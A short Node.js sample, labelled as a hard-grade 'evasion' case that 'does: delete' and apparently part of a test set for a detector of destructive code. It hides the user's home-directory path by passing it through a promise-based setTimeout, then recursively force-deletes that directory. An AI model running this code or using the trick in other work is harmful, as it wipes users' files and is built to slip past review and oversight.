// evasion: timers/promises setTimeout resolves with its second argument: the home
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const { setTimeout: delay } = require('timers/promises');

(async () => {
  const dir = await delay(50, os.homedir());
  await fs.promises.rm(dir, { recursive: true, force: true });
})();
